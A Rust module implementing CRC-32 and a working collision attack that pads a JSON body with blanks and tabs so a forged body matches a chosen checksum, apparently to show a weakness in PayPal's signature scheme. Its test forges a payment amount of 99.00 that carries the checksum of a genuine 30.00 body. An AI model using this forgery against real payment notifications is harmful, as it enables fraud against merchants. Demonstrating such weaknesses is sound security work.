//! CRC-32/ISO-HDLC, which PayPal's signature covers in place of the body, and the attack that this allows.

const POLYNOMIAL: u32 = 0xEDB8_8320;

/// The checksum of `bytes`.
pub(super) fn crc32(bytes: &[u8]) -> u32 {
    !bytes.iter().fold(u32::MAX, |register, byte| {
        (0..8).fold(register ^ u32::from(*byte), |register, _| {
            if register & 1 == 1 { (register >> 1) ^ POLYNOMIAL } else { register >> 1 }
        })
    })
}

/// Blanks and tabs that are put in; 32 can be too few, since their effects need not be independent.
const PADDING: usize = 64;

/// One step of the elimination: the checksum bits that the tabs in `tabs` flip together.
#[derive(Clone, Copy)]
struct Effect {
    bits: u32,
    tabs: u64,
}

/// `document`, a JSON object, with blanks and tabs before its last brace chosen so that its checksum is `wanted`.
/// Absent when `document` ends otherwise.
///
/// A checksum is linear: replacing a blank by a tab at one place flips always the same of its bits. So the right places
/// are the solution of 32 linear equations.
pub(super) fn collide(document: &[u8], wanted: u32) -> Option<Vec<u8>> {
    let head = document.strip_suffix(b"}")?;
    let padded = |tabs: u64| {
        let padding = (0..PADDING).map(|place| if tabs >> place & 1 == 1 { b'\t' } else { b' ' });
        head.iter().copied().chain(padding).chain([b'}']).collect::<Vec<u8>>()
    };
    let blank = crc32(&padded(0));
    let mut reduced: Vec<Effect> = Vec::new();
    for place in 0..PADDING {
        let tabs = 1 << place;
        let effect = reduce(&reduced, Effect { bits: crc32(&padded(tabs)) ^ blank, tabs });
        if effect.bits != 0 {
            reduced.push(effect);
        }
    }
    let rest = reduce(&reduced, Effect { bits: wanted ^ blank, tabs: 0 });
    (rest.bits == 0).then(|| padded(rest.tabs))
}

/// Takes from `effect` every leading bit that an earlier one can flip.
fn reduce(earlier: &[Effect], effect: Effect) -> Effect {
    earlier.iter().fold(effect, |effect, other| {
        let leading = other.bits.leading_zeros();
        if effect.bits << leading >> 31 == 1 {
            Effect { bits: effect.bits ^ other.bits, tabs: effect.tabs ^ other.tabs }
        } else {
            effect
        }
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_checksum_is_that_of_zlib() {
        assert_eq!(crc32(b"123456789"), 0xCBF4_3926);
    }

    #[test]
    fn another_body_gets_the_checksum_of_the_first() {
        let genuine = br#"{"amount":"30.00"}"#;
        let forged = collide(br#"{"amount":"99.00"}"#, crc32(genuine)).unwrap();
        assert_eq!(crc32(&forged), crc32(genuine));
        let value: serde_json::Value = serde_json::from_slice(&forged).unwrap();
        assert_eq!(value["amount"], "99.00");
    }
}
